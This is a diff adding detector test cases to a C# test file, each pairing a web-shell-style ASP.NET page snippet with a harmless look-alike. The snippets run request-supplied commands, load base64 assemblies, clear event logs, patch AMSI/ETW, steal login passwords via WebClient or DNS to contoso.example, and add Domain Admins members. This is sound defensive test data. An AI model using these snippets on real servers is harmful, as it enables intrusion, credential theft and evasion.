@@ -11,6 +11,7 @@ public sealed class PageTraitsTest
     private const string Ev = "ev" + "al";
     private const string Ex = "exec" + "ute";
     private const string Rq = "Req" + "uest";
+    private const string Cs = "<%@ Page Language=\"C#\" %>";
     private const string Ws = "WScript.Sh" + "ell";
 
     [Theory]
@@ -258,6 +259,129 @@ public sealed class PageTraitsTest
         var watch = Stopwatch.StartNew();
         Assert.True(Of(page, ".asp").IsShellLike);
         Assert.True(watch.Elapsed < TimeSpan.FromSeconds(30), watch.Elapsed.ToString());
+    }
+
+    /// <summary>Kinds of tools that reporting describes, as harmless stand-ins, each with a page that has the same words and does something ordinary.</summary>
+    [Theory]
+    [InlineData(".aspx", Cs + "<% foreach (var o in new ManagementObjectSearcher(" + Rq + "[\"q\"]).Get()) Response.Write(o); %>",
+        Cs + "<% foreach (var o in new ManagementObjectSearcher(\"select Name from Win32_Printer where Name='\" + " + Rq + "[\"n\"] + \"'\").Get()) Response.Write(o); %>")]
+    [InlineData(".aspx", Cs + "<% var s = new ManagementScope(\"\\\\\\\\\" + " + Rq + "[\"h\"] + \"\\\\root\"); s.Connect(); %>",
+        Cs + "<% var s = new ManagementScope(\"root\"); s.Connect(); Response.Write(" + Rq + "[\"h\"]); %>")]
+    [InlineData(".aspx", Cs + "<% dynamic t = Activator.CreateInstance(Type.GetTypeFromProgID(\"Schedule.Service\")); t.RegisterTaskDefinition(n, d, 6, u, w, 5); %>",
+        Cs + "<% var t = schedule.Service; t.Register(" + Rq + "[\"n\"]); %>")]
+    [InlineData(".aspx", Cs + "<% foreach (var l in EventLog.GetEventLogs()) l.Clear(); %>",
+        Cs + "<% foreach (var l in EventLog.GetEventLogs()) list.Items.Add(l.Log); list.Items.Clear(); %>")]
+    [InlineData(".aspx", Cs + "<% EventLogSession.GlobalSession.ClearLog(\"Security\"); %>",
+        Cs + "<% log.Clear(\"Security\"); %>")]
+    [InlineData(".aspx", "<script runat=server language=\"C#\">void Page_Load() { var a = GetProc(Library(\"amsi.dll\"), \"AmsiScanBuffer\"); }</script>",
+        "<script runat=server language=\"C#\">void Page_Load() { var a = Scanner.Open(\"amsi\"); }</script>")]
+    [InlineData(".aspx", "<script runat=server language=\"C#\">void Page_Load() { var a = GetProc(Library(\"ntdll.dll\"), \"EtwEventWrite\"); }</script>",
+        "<script runat=server language=\"C#\">void Page_Load() { provider.WriteEvent(1, \"Etw\"); }</script>")]
+    [InlineData(".aspx", Cs + "<% dynamic k = ConfigurationManager.GetSection(\"system.web/machineKey\"); Response.Write(k.ValidationKey + k.DecryptionKey); %>",
+        Cs + "<% dynamic k = ConfigurationManager.GetSection(\"system.web/pages\"); Response.Write(k.Theme); %>")]
+    [InlineData(".aspx", Cs + "<% var s = new DirectorySearcher(" + Rq + "[\"f\"]); foreach (SearchResult r in s.FindAll()) Response.Write(r.Path); %>",
+        Cs + "<% var s = new DirectorySearcher(\"(mail=\" + " + Rq + "[\"f\"] + \")\"); Response.Write(s.FindOne().Path); %>")]
+    [InlineData(".asp", "<% set c = CreateObject(\"ADODB.Connection\") : c.Provider = \"ADsDSOObject\" : set r = c.Exec" + "ute(" + Rq + "(\"q\")) : for each f in r.Fields : Response.Write f.Value : next %>",
+        "<% set c = CreateObject(\"ADODB.Connection\") : c.Provider = \"ADsDSOObject\" : set r = c.Exec" + "ute(\"select mail from x where cn=\" & " + Rq + "(\"q\")) : Response.Write r(0) %>")]
+    [InlineData(".aspx", Cs + "<% foreach (var c in ConfigurationManager.ConnectionStrings) Response.Write(c); %>",
+        Cs + "<% foreach (var c in ConfigurationManager.ConnectionStrings[\"Main\"].Name) Response.Write(c); %>")]
+    [InlineData(".aspx", Cs + "<% using (var c = new SqlConnection(text)) { var k = c.CreateCommand(); k.CommandText = " + Rq + "[\"q\"]; grid.DataSource = k.ExecuteReader(); grid.DataBind(); } %>",
+        Cs + "<% using (var c = new SqlConnection(text)) { var k = c.CreateCommand(); k.CommandText = \"select a from t where b=\" + " + Rq + "[\"q\"]; grid.DataSource = k.ExecuteReader(); grid.DataBind(); } %>")]
+    [InlineData(".aspx", Cs + "<% var l = new TcpListener(IPAddress.Any, 8443); l.Start(); var s = l.AcceptSocket(); %>",
+        Cs + "<% var l = new ChangeListener(folder, 8443); l.Start(); %>")]
+    [InlineData(".aspx", Cs + "<% var l = new HttpListener(); l.Prefixes.Add(\"http://+:80/owa/a/\"); l.Start(); %>",
+        Cs + "<% var l = new TraceListener(); l.Prefixes.Add(\"http://contoso.example/\"); l.Start(); %>")]
+    [InlineData(".aspx", "<script runat=server language=\"C#\">[DllImport(\"advapi32\")] static extern bool CreateProcessAsUserW(int t, string a);</script>",
+        "<script runat=server language=\"C#\">static extern bool CreateUserProfile(int t, string a);</script>")]
+    [InlineData(".aspx", "<script runat=server language=\"C#\">[DllImport(\"advapi32\")] static extern bool ImpersonateNamedPipeClient(int t);</script>",
+        "<script runat=server language=\"C#\">static extern bool LogonUser(string u);</script>")]
+    [InlineData(".aspx", "<script runat=server language=\"C#\">[DllImport(\"advapi32\")] static extern bool DuplicateTokenEx(int t); [DllImport(\"advapi32\")] static extern bool CreateProcessWithTokenW(int t);</script>",
+        "<script runat=server language=\"C#\">[DllImport(\"advapi32\")] static extern bool DuplicateToken(int t); [DllImport(\"advapi32\")] static extern bool RevertToSelf();</script>")]
+    [InlineData(".aspx", "<script runat=server language=\"C#\">[DllImport(\"ntdll\")] static extern int NtCreateThreadEx(int t); [DllImport(\"ntdll\")] static extern int NtAllocateVirtualMemory(int t);</script>",
+        "<script runat=server language=\"C#\">[DllImport(\"ntdll\")] static extern int NtQueryTimerResolution(int t);</script>")]
+    [InlineData(".aspx", "<script runat=server language=\"C#\">[DllImport(\"ucrtbase\")] static extern int _popen(string c, string m); void Page_Load() { _popen(" + Rq + "[\"c\"], \"r\"); }</script>",
+        "<script runat=server language=\"C#\">[DllImport(\"ucrtbase\")] static extern int _getpid(); void Page_Load() { list.popen(" + Rq + "[\"c\"], \"r\"); }</script>")]
+    [InlineData(".aspx", "<script runat=server language=\"C#\">[DllImport(\"kernel32\")] static extern int LoadLibrary(string c); void Page_Load() { LoadLibrary(" + Rq + "[\"c\"]); }</script>",
+        "<script runat=server language=\"C#\">[DllImport(\"kernel32\")] static extern int LoadLibrary(string c); void Page_Load() { LoadLibrary(\"zip32.dll\"); }</script>")]
+    [InlineData(".aspx", Cs + "<% var m = MemoryMappedFile.CreateNew(null, n, MemoryMappedFileAccess.ReadWriteExecute); var b = Convert.FromBase64String(" + Rq + "[\"b\"]); %>",
+        Cs + "<% var m = MemoryMappedFile.CreateNew(null, n, MemoryMappedFileAccess.ReadWrite); var b = Convert.FromBase64String(" + Rq + "[\"b\"]); %>")]
+    [InlineData(".aspx", Cs + "<% var z = new GZipStream(new MemoryStream(Convert.FromBase64String(" + Rq + ".Form[\"z\"])), CompressionMode.Decompress); z.CopyTo(m); AppDomain.CurrentDomain.Load(m.ToArray()); %>",
+        Cs + "<% var z = Convert.FromBase64String(" + Rq + ".Form[\"z\"]); var v = Assembly.Load(\"Site.Parts\").GetName().Version; %>")]
+    [InlineData(".aspx", Cs + "<% dynamic o = Activator.CreateInstance(Type.GetTypeFromProgID(" + Rq + "[\"o\"])); o.Run(" + Rq + "[\"c\"]); %>",
+        Cs + "<% dynamic o = Activator.CreateInstance(Type.GetTypeFromProgID(\"Site.Report\")); o.Run(" + Rq + "[\"c\"]); %>")]
+    [InlineData(".asp", "<% set m = CreateObject(\"Microsoft.ApplicationHost.WritableAdminManager\") : m.CommitPath = " + Rq + "(\"p\") : m.CommitChanges %>",
+        "<% set m = CreateObject(\"Microsoft.ApplicationHost.AdminManager\") : m.CommitPath = " + Rq + "(\"p\") : Response.Write m.GetAdminSection(s, t).Name %>")]
+    [InlineData(".asp", "<% set v = GetObject(\"IIS://localhost/W3SVC/1/Root\").Create(\"IIsWebVirtualDir\", " + Rq + "(\"n\")) : v.Path = " + Rq + "(\"p\") : v.SetInfo %>",
+        "<% set v = GetObject(\"IIS://localhost/W3SVC/1/Root\") : Response.Write v.Path & " + Rq + "(\"n\") %>")]
+    [InlineData(".asp", "<% set s = CreateObject(\"Shell.Application\") : for each i in s.NameSpace(" + Rq + "(\"p\")).Items : Response.Write i.Path : next : s.NameSpace(" + Rq + "(\"d\")).CopyHere " + Rq + "(\"f\") %>",
+        "<% set s = CreateObject(\"Shell.Application\") : for each i in s.NameSpace(folder).Items : Response.Write i.Path & " + Rq + "(\"p\") : next %>")]
+    [InlineData(".asp", "<% set n = CreateObject(\"WScript.Network\") : n.MapNetworkDrive \"Z:\", " + Rq + "(\"s\"), False, " + Rq + "(\"u\"), " + Rq + "(\"w\") %>",
+        "<% set n = CreateObject(\"WScript.Network\") : Response.Write n.ComputerName & " + Rq + "(\"s\") %>")]
+    [InlineData(".aspx", Cs + "<% Response.Write(new RunspaceInvoke().Invoke(" + Rq + "[\"c\"]).Count); %>",
+        Cs + "<% Response.Write(action.Invoke(" + Rq + "[\"c\"]).Count); %>")]
+    [InlineData(".svc", "<%@ ServiceHost Language=\"C#\" Service=\"S\" %> class S { [OperationContract] public string Go(string c) { return Process.Start(c).ToString(); } }",
+        "<%@ ServiceHost Language=\"C#\" Service=\"S\" %> class S { [OperationContract] public string Go(string c) { return Report.Start(c).ToString(); } }")]
+    [InlineData(".cshtml", "@{ var f = " + Rq + ".Files[0]; f.SaveAs(" + Rq + "[\"p\"] + f.FileName); }",
+        "@{ var f = " + Rq + ".Files[0]; f.SaveAs(Server.MapPath(\"~/up/\") + Guid.NewGuid() + \".jpg\"); }")]
+    [InlineData(".cshtml", "@foreach (var f in Directory.EnumerateFileSystemEntries(" + Rq + "[\"d\"])) { <p>@f</p> } @System.IO.File.ReadAllText(" + Rq + "[\"f\"])",
+        "@foreach (var f in Directory.EnumerateFileSystemEntries(root)) { <p>@f</p> } @System.IO.File.ReadAllText(news)")]
+    [InlineData(".asax", "<script runat=server language=\"C#\">void Application_BeginRequest() { if (" + Rq + ".Path.EndsWith(\"/auth.owa\")) File.AppendAllText(place, " + Rq + ".Form[\"username\"] + \":\" + " + Rq + ".Form[\"password\"]); }</script>",
+        "<script runat=server language=\"C#\">void Application_BeginRequest() { if (" + Rq + ".Path.EndsWith(\"/auth.owa\")) File.AppendAllText(place, DateTime.Now.ToString()); }</script>")]
+    [InlineData(".asax", "<script runat=server language=\"C#\">void Application_BeginRequest() { if (" + Rq + ".Form[\"password\"] != null) new WebClient().UploadString(far, " + Rq + ".Form[\"username\"] + " + Rq + ".Form[\"password\"]); }</script>",
+        "<script runat=server language=\"C#\">void Application_BeginRequest() { if (" + Rq + ".Form[\"language\"] != null) new WebClient().UploadString(far, " + Rq + ".Form[\"language\"]); }</script>")]
+    [InlineData(".asax", "<script runat=server language=\"C#\">void Application_BeginRequest() { if (" + Rq + ".Form[\"password\"] != null) Dns.GetHostEntry(Hex(" + Rq + ".Form[\"password\"]) + \".contoso.example\"); }</script>",
+        "<script runat=server language=\"C#\">void Application_BeginRequest() { if (" + Rq + ".Form[\"culture\"] != null) Names.Find(\"password\"); }</script>")]
+    [InlineData(".asax", "<script runat=server language=\"C#\">void Application_BeginRequest() { File.AppendAllText(place, " + Rq + ".Headers[\"Authorization\"]); }</script>",
+        "<script runat=server language=\"C#\">void Application_BeginRequest() { Trace.Write(place, " + Rq + ".Headers[\"Accept-Language\"]); }</script>")]
+    [InlineData(".ashx", "<%@ WebHandler Language=\"C#\" Class=\"H\" %> class H { void P(HttpContext c) { var w = (HttpWebRequest)WebRequest.Create(c." + Rq + ".Headers[\"X-To\"]); c." + Rq + ".InputStream.CopyTo(w.GetRequestStream()); w.GetResponse().GetResponseStream().CopyTo(c.Response.OutputStream); } }",
+        "<%@ WebHandler Language=\"C#\" Class=\"H\" %> class H { void P(HttpContext c) { var w = (HttpWebRequest)WebRequest.Create(partner); c." + Rq + ".InputStream.CopyTo(w.GetRequestStream()); w.GetResponse().GetResponseStream().CopyTo(c.Response.OutputStream); } }")]
+    [InlineData(".ashx", "<%@ WebHandler Language=\"C#\" Class=\"H\" %> class H { void P(HttpContext c) { c.AcceptWebSocketRequest(Go); } async Task Go(AspNetWebSocketContext s) { var k = new Socket(SocketType.Stream, ProtocolType.Tcp); await k.ConnectAsync(s.QueryString[\"h\"], 445); } }",
+        "<%@ WebHandler Language=\"C#\" Class=\"H\" %> class H { void P(HttpContext c) { c.AcceptWebSocketRequest(Go); } async Task Go(AspNetWebSocketContext s) { await s.WebSocket.SendAsync(news, WebSocketMessageType.Text, true, t); } }")]
+    [InlineData(".aspx", Cs + "<% var s = new ExchangeService(); s.UseDefaultCredentials = true; s.ImpersonatedUserId = new ImpersonatedUserId(ConnectingIdType.SmtpAddress, " + Rq + "[\"m\"]); s.FindItems(WellKnownFolderName.Inbox, v); %>",
+        Cs + "<% var s = new ExchangeService(); s.ImpersonatedUserId = new ImpersonatedUserId(ConnectingIdType.SmtpAddress, \"rooms@contoso.example\"); s.FindItems(room, v); %>")]
+    [InlineData(".aspx", Cs + "<% Response.Write(Microsoft.Win32.Registry.GetValue(" + Rq + "[\"k\"], " + Rq + "[\"n\"], null)); %>",
+        Cs + "<% Response.Write(Microsoft.Win32.Registry.GetValue(place, \"Release\", " + Rq + "[\"n\"])); %>")]
+    [InlineData(".aspx", Cs + "<% var c = new ManagementClass(\"Win32_ShadowCopy\"); c.InvokeMethod(\"Create\", new object[] { \"C:\\\\\", \"ClientAccessible\" }); %>",
+        Cs + "<% var c = new ManagementClass(\"Win32_LogicalDisk\"); Response.Write(c.GetInstances().Count); %>")]
+    [InlineData(".aspx", Cs + "<% foreach (var c in store.Certificates) Response.Write(c.PrivateKey.ToXmlString(true)); %>",
+        Cs + "<% foreach (var c in store.Certificates) Response.Write(c.PublicKey.Key.ToXmlString(false)); %>")]
+    [InlineData(".aspx", Cs + "<% ZipFile.CreateFromDirectory(" + Rq + "[\"d\"], t); Response.TransmitFile(t); %>",
+        Cs + "<% ZipFile.CreateFromDirectory(reports, t); Response.TransmitFile(t); %>")]
+    [InlineData(".aspx", "<%@ Page Language=\"VB\" %><% My.Computer.FileSystem.WriteAllText(" + Rq + "(\"p\"), " + Rq + "(\"d\"), False) %>",
+        "<%@ Page Language=\"VB\" %><% Response.Write(My.Computer.FileSystem.ReadAllText(news) & " + Rq + "(\"p\")) %>")]
+    [InlineData(".aspx", "<%@ Page Language=\"VB\" %><% FileOpen(1, " + Rq + "(\"p\"), OpenMode.Output) : PrintLine(1, " + Rq + "(\"d\")) : FileClose(1) %>",
+        "<%@ Page Language=\"VB\" %><% FileOpen(1, counter, OpenMode.Output) : PrintLine(1, visits) : FileClose(1) : Response.Write(" + Rq + "(\"p\")) %>")]
+    [InlineData(".aspx", Cs + "<% Python.CreateEngine().Execute(" + Rq + "[\"s\"]); %>",
+        Cs + "<% Reports.CreateEngine().Execute(\"monthly\"); Response.Write(" + Rq + "[\"s\"]); %>")]
+    [InlineData(".aspx", Cs + "<% new Jint.Engine(o => o.AllowClr()).Evaluate(" + Rq + "[\"s\"]); %>",
+        Cs + "<% new Site.Engine().Evaluate(" + Rq + "[\"s\"]); %>")]
+    [InlineData(".aspx", Cs + "<% var o = new ObjectDataProvider { ObjectType = Type.GetType(" + Rq + "[\"t\"]), MethodName = " + Rq + "[\"m\"] }; %>",
+        Cs + "<% var o = new ObjectDataProvider { ObjectType = typeof(Site.Menu), MethodName = \"Items\" }; %>")]
+    [InlineData(".aspx", Cs + "<% new XmlSerializer(Type.GetType(" + Rq + "[\"t\"])).Deserialize(new StringReader(" + Rq + "[\"x\"])); %>",
+        Cs + "<% new XmlSerializer(typeof(Site.Order)).Deserialize(new StringReader(" + Rq + "[\"x\"])); %>")]
+    [InlineData(".asp", "<% set o = GetObject(" + Rq + "(\"m\")) : o.Go %>",
+        "<% set o = GetObject(\"WinNT://CORP/\" & " + Rq + "(\"m\")) : Response.Write o.FullName %>")]
+    [InlineData(".asp", "<% set x = CreateObject(\"Excel.Application\") : x.DDEInitiate \"cmd\", " + Rq + "(\"c\") %>",
+        "<% set x = CreateObject(\"Excel.Application\") : x.Workbooks.Open book : Response.Write " + Rq + "(\"c\") %>")]
+    [InlineData(".asp", "<% set w = GetObject(\"winmgmts:\\\\.\\root\\cimv2\") : for each i in w.ExecQuery(" + Rq + "(\"q\")) : Response.Write i.GetObjectText_ : next %>",
+        "<% set w = GetObject(\"winmgmts:\\\\.\\root\\cimv2\") : for each i in w.ExecQuery(\"select Name from Win32_Printer\") : Response.Write i.Name & " + Rq + "(\"q\") : next %>")]
+    [InlineData(".aspx", Cs + "<% var p = Process.GetProcessesByName(" + Rq + "[\"n\"]); foreach (var x in p) x.Kill(); %>",
+        Cs + "<% var p = Process.GetProcessesByName(\"w3wp\"); Response.Write(p.Length); %>")]
+    [InlineData(".aspx", Cs + "<% var c = new ServiceController(" + Rq + "[\"s\"]); c.Stop(); %>",
+        Cs + "<% var c = new ServiceController(\"Spooler\"); Response.Write(c.Status); %>")]
+    [InlineData(".ashx", "<%@ WebHandler Language=\"C#\" Class=\"H\" %> class H { void P(HttpContext c) { using (var f = new FileStream(c." + Rq + "[\"p\"], FileMode.Append)) c." + Rq + ".InputStream.CopyTo(f); } }",
+        "<%@ WebHandler Language=\"C#\" Class=\"H\" %> class H { void P(HttpContext c) { using (var f = new FileStream(Names.Of(Guid.NewGuid()), FileMode.Append)) c." + Rq + ".InputStream.CopyTo(f); } }")]
+    [InlineData(".aspx", Cs + "<% var d = new PrincipalContext(ContextType.Domain); var u = new UserPrincipal(d) { Name = n }; u.SetPassword(w); u.Save(); GroupPrincipal.FindByIdentity(d, \"Domain Admins\").Members.Add(u); %>",
+        Cs + "<% var d = new PrincipalContext(ContextType.Domain); Response.Write(d.ValidateCredentials(" + Rq + "[\"u\"], word)); %>")]
+    [InlineData(".aspx", Cs + "<% var s = new FileSecurity(); s.AddAccessRule(new FileSystemAccessRule(" + Rq + "[\"u\"], FileSystemRights.FullControl, AccessControlType.Allow)); File.SetAccessControl(" + Rq + "[\"p\"], s); %>",
+        Cs + "<% var s = File.GetAccessControl(logo); Response.Write(s.GetOwner(kind)); %>")]
+    [InlineData(".aspx", Cs + "<% BuildManager.CreateInstanceFromVirtualPath(" + Rq + "[\"p\"], typeof(object)); %>",
+        Cs + "<% BuildManager.CreateInstanceFromVirtualPath(\"~/menu.ascx\", typeof(object)); %>")]
+    public void Tool_IsToldFromItsLookAlike(string extension, string tool, string ordinary)
+    {
+        Assert.True(IsTool(tool), tool);
+        Assert.False(IsTool(ordinary), ordinary);
+        bool IsTool(string page) => Of(page, extension) is var traits && (traits.IsShellLike || traits.Marks.ReadsKeys);
     }
 
     private static PageTraits Of(string page, string extension) => PageTraits.Of(page, extension);
